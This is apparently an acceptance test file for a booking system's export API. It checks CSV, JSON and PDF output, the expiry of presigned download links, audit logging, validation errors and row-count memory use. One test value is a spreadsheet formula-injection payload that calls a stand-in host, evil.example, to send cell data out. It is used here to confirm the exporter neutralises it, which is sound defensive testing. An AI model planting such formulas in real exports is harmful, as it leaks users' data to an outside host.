import { randomBytes } from "node:crypto";
import { DynamoDBClient } from "@aws-sdk/client-dynamodb";
import type { DynamoDBDocumentClient } from "@aws-sdk/lib-dynamodb";
import { beforeAll, describe, expect, inject, it } from "vitest";
import type { ExportView } from "../../shared/contracts/exports.ts";
import { fullAcceptance } from "../support/acceptance.ts";
import {
  createBulkTable,
  generatedBooking,
  generatedBookings,
  writeBookings,
} from "../support/export-rows.ts";
import { demoAdmin, demoAgent, signedIn, type TestClient } from "../support/http.ts";

/** The stack's own table (local/stack.ts default); this process uses its own table for the 100k run. */
const stackTable = "slot-booking";
const memoryTable = `exports-memory-${randomBytes(4).toString("hex")}`;

let admin: TestClient;
let dynamo: DynamoDBDocumentClient;
let bucket: typeof import("../../shared/storage/exports-bucket.ts");
let repository: typeof import("../../shared/data/exports-repository.ts");
let runExport: typeof import("../../functions/exports/run-export.ts").runExport;

const from = "2031-03-03";
const to = "2031-03-04";
const perDay = 15;
const apiRows = 30;
const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';

beforeAll(async () => {
  process.env.DYNAMODB_ENDPOINT = inject("dynamoEndpoint");
  process.env.S3_ENDPOINT = inject("s3Endpoint");
  process.env.TABLE_NAME = memoryTable;
  const { resetConfig } = await import("../../shared/config.ts");
  const { resetClients, dynamoClient } = await import("../../shared/data/clients.ts");
  resetConfig();
  resetClients();
  dynamo = dynamoClient();
  await createBulkTable(
    new DynamoDBClient({
      endpoint: inject("dynamoEndpoint"),
      region: "eu-central-1",
      credentials: { accessKeyId: "local", secretAccessKey: "local" },
    }),
    memoryTable,
  );
  bucket = await import("../../shared/storage/exports-bucket.ts");
  repository = await import("../../shared/data/exports-repository.ts");
  ({ runExport } = await import("../../functions/exports/run-export.ts"));

  admin = await signedIn(demoAdmin);
  // 30 bookings over two days in the stack's table; the first customer's name is a formula.
  await writeBookings(
    dynamo,
    stackTable,
    Array.from({ length: apiRows }, (_, index) =>
      generatedBooking("e7a", from, perDay, index, index === 0 ? { lastName: evilName } : {}),
    ),
  );
});

async function waitDone(client: TestClient, id: string, seen: number[] = []): Promise<ExportView> {
  const deadline = Date.now() + 30_000;
  while (Date.now() < deadline) {
    const response = await client.request<{ export: ExportView }>("GET", `/api/exports/${id}`);
    expect(response.status).toBe(200);
    seen.push(response.body.export.progress);
    if (response.body.export.status === "done" || response.body.export.status === "failed")
      return response.body.export;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`export ${id} did not finish`);
}

async function download(url: string): Promise<{ status: number; bytes: Buffer; headers: Headers }> {
  const response = await fetch(url);
  return {
    status: response.status,
    bytes: Buffer.from(await response.arrayBuffer()),
    headers: response.headers,
  };
}

describe("exports through the API", () => {
  let csvExport: ExportView;

  it("starts a CSV export (202), runs it and hands out a presigned link that downloads the file from s3rver", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "csv", from, to, delimiter: ";" },
    });
    expect(started.status).toBe(202);
    expect(started.body.export).toMatchObject({ status: "queued", dataset: "bookings", createdBy: "admin" });
    expect(started.body.export.downloadUrl).toBeUndefined();

    csvExport = await waitDone(admin, started.body.export.id);
    expect(csvExport).toMatchObject({ status: "done", rows: apiRows, progress: 100 });
    expect(csvExport.downloadUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/slot-booking-exports\/exports\//);
    expect(csvExport.downloadUrl).toContain("X-Amz-Expires=900");
    const linkLife = Date.parse(csvExport.linkExpiresAt!) - Date.now();
    expect(linkLife).toBeGreaterThan(14 * 60_000);
    expect(linkLife).toBeLessThanOrEqual(15 * 60_000);

    const file = await download(csvExport.downloadUrl!);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-disposition")).toContain(`bookings_${from}_${to}.csv`);
    // UTF-8 BOM, `;` as asked, a header and one line per booking, CRLF.
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = file.bytes.toString("utf8").slice(1).trimEnd().split("\r\n");
    expect(lines[0]).toBe("date;time;customer;phone;agent;consultant;potential;outcome;points");
    expect(lines).toHaveLength(apiRows + 1);
    const second = generatedBooking("e7a", from, perDay, 1);
    expect(lines).toContain(
      `${second.date};${second.time};${second.lastName}, ${second.firstName};'${second.phone};anna;bench-consultant;standard;completed;3`,
    );
  });

  it("neutralises a formula in a cell: =HYPERLINK(...) comes out as text", async () => {
    const text = (await download(csvExport.downloadUrl!)).bytes.toString("utf8");
    const row = text.split("\r\n").find((line) => line.includes("HYPERLINK"));
    // The cell starts with ' (text to a spreadsheet); its quotes are doubled and it is quoted whole.
    expect(row).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klick""), Vorname0";`);
    expect(text).not.toMatch(/(^|;|\r\n)"?=/);
  });

  it("refuses the link after it expired (signed here with a 1-second life)", async () => {
    const key = bucket.exportObjectKey(csvExport.id, csvExport.fileName);
    const shortLived = await bucket.presignExport(key, csvExport.fileName, 1);
    expect((await download(shortLived)).status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, 2_200));
    const expired = await download(shortLived);
    expect(expired.status).toBe(403);
    expect(expired.bytes.toString("utf8")).toContain("Request has expired");
  });

  it("streams JSON as one array with every row", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "json", from, to, filters: { outcome: "no_show" } },
    });
    expect(started.status).toBe(202);
    const done = await waitDone(admin, started.body.export.id);
    const rows = JSON.parse((await download(done.downloadUrl!)).bytes.toString("utf8")) as Record<
      string,
      unknown
    >[];
    // Every fifth generated booking is a no-show.
    expect(rows).toHaveLength(apiRows / 5);
    expect(done.rows).toBe(apiRows / 5);
    expect(rows.every((row) => row.outcome === "no_show")).toBe(true);
    expect(rows[0]).toMatchObject({ date: from, time: "09:00", agent: "anna", points: 3 });
  });

  it("renders the bookings as a PDF", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "pdf", from, to },
    });
    const done = await waitDone(admin, started.body.export.id);
    expect(done).toMatchObject({ status: "done", rows: apiRows });
    const file = await download(done.downloadUrl!);
    expect(file.bytes.subarray(0, 5).toString("latin1")).toBe("%PDF-");
  });

  it("the old app's URL starts the same job and answers with it", async () => {
    const started = await admin.request<{ export: ExportView }>(
      "GET",
      `/api/export/bookings?format=csv&start_date=${from}&end_date=${to}`,
    );
    expect(started.status).toBe(202);
    expect(started.body.export).toMatchObject({
      dataset: "bookings",
      format: "csv",
      from,
      to,
      status: "queued",
    });
    const done = await waitDone(admin, started.body.export.id);
    expect(done.rows).toBe(apiRows);
    const lines = (await download(done.downloadUrl!)).bytes.toString("utf8").trimEnd().split("\r\n");
    expect(lines).toHaveLength(apiRows + 1);
    expect(lines[0]).toContain("date,time,customer");
    // …and it is listed with the others.
    const list = await admin.request<{ exports: ExportView[] }>("GET", "/api/exports");
    expect(list.body.exports.map((entry) => entry.id)).toContain(done.id);
    expect(list.body.exports.map((entry) => entry.id)).toContain(csvExport.id);
  });

  it("audits every export: who asked for what, and that it completed", async () => {
    const audit = await admin.request<{ entries: { action: string; target?: string; actor: string }[] }>(
      "GET",
      "/api/admin/audit?action=export",
    );
    expect(audit.status).toBe(200);
    const forCsv = audit.body.entries.filter((entry) => entry.target === csvExport.id);
    expect(forCsv.map((entry) => entry.action).sort()).toEqual(["export.completed", "export.requested"]);
    expect(forCsv.every((entry) => entry.actor === "admin")).toBe(true);
  });

  it("refuses bad input with 400 naming the field, and agents with 403", async () => {
    const bad = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "invoices", format: "csv", from, to },
    });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.error.fields)).toEqual(["body.dataset"]);
    const order = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "csv", from: to, to: from },
      headers: { "accept-language": "en" },
    });
    expect(order.status).toBe(400);
    expect(order.body.error.fields).toEqual({ "body.to": "The end is before the start" });
    const pdf = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "customers", format: "pdf", from, to },
    });
    expect(Object.keys(pdf.body.error.fields)).toEqual(["body.format"]);
    const legacy = await admin.request<{ error: { fields: Record<string, string> } }>(
      "GET",
      "/api/export/bookings?format=xls&start_date=2031-03-03",
    );
    expect(legacy.status).toBe(400);
    expect(Object.keys(legacy.body.error.fields)).toEqual(["query.format"]);
    const agent = await signedIn(demoAgent);
    expect(
      (
        await agent.request("POST", "/api/exports", {
          body: { dataset: "bookings", format: "csv", from, to },
        })
      ).status,
    ).toBe(403);
    expect((await agent.request("GET", "/api/exports")).status).toBe(403);
  });
});

describe("the worker's memory", () => {
  /** Queues an export in this process's table and runs the worker on it here, measuring the heap. */
  async function measuredRun(rangeFrom: string, rangeTo: string) {
    const id = randomBytes(16).toString("hex");
    await repository.createExport({
      id,
      dataset: "bookings",
      format: "csv",
      from: rangeFrom,
      to: rangeTo,
      delimiter: ";",
      filters: {},
      createdBy: "memory-test",
      createdAt: new Date().toISOString(),
      key: bucket.exportObjectKey(id, "memory.csv"),
      fileName: "memory.csv",
    });
    const baseline = process.memoryUsage();
    const started = performance.now();
    const result = await runExport(id);
    return {
      ...result,
      seconds: (performance.now() - started) / 1000,
      heapGrowth: result.peakHeapUsed - baseline.heapUsed,
      rssGrowth: result.peakRss - baseline.rss,
    };
  }

  it.skipIf(!fullAcceptance)(
    "exports 100k rows with the heap not growing with the row count (10k vs 100k)",
    {
      timeout: 1_500_000,
    },
    async () => {
      const perDayMemory = 2_000;
      const start = "2032-01-01";
      const t0 = performance.now();
      await writeBookings(dynamo, memoryTable, generatedBookings("e7m", start, perDayMemory, 100_000), {
        dayIndexOnly: true,
      });
      const writeSeconds = (performance.now() - t0) / 1000;
      console.log(`export memory: wrote 100k rows in ${writeSeconds.toFixed(1)} s`);

      const small = await measuredRun(start, "2032-01-05"); // 5 days × 2,000 = 10k rows
      const large = await measuredRun(start, "2032-02-19"); // 50 days × 2,000 = 100k rows
      console.log(
        `export memory: wrote 100k rows in ${writeSeconds.toFixed(1)} s; ` +
          `10k rows ${small.seconds.toFixed(1)} s heap +${(small.heapGrowth / 2 ** 20).toFixed(1)} MiB rss +${(small.rssGrowth / 2 ** 20).toFixed(1)} MiB; ` +
          `100k rows ${large.seconds.toFixed(1)} s heap +${(large.heapGrowth / 2 ** 20).toFixed(1)} MiB rss +${(large.rssGrowth / 2 ** 20).toFixed(1)} MiB, ${(large.bytes / 2 ** 20).toFixed(1)} MiB file`,
      );
      expect(small).toMatchObject({ status: "done", rows: 10_000 });
      expect(large).toMatchObject({ status: "done", rows: 100_000 });
      // Ten times the rows, about the same peak: holding the rows (or the file) would add
      // well over 50 MiB (the file alone is ~10 MiB, the row objects several times that).
      expect(large.heapGrowth).toBeLessThan(small.heapGrowth + 24 * 2 ** 20);
      expect(large.heapGrowth).toBeLessThan(64 * 2 ** 20);
      const stored = await repository.getExport(large.id);
      expect(stored).toMatchObject({ status: "done", rows: 100_000, progress: 100 });
    },
  );
});
